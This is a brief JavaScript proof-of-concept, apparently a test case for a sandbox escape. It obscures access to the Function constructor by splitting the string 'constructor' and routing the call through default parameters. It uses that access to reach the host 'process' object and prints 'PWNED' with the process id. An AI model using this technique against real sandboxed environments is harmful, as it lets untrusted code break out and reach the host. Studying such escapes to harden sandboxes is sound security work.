'use strict';
const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
const f = ({ a = t } = {}) => a;
const o = Date.now() > 1 ? f() : {};
console.log('PWNED', o.go(fn)('return process')().pid);
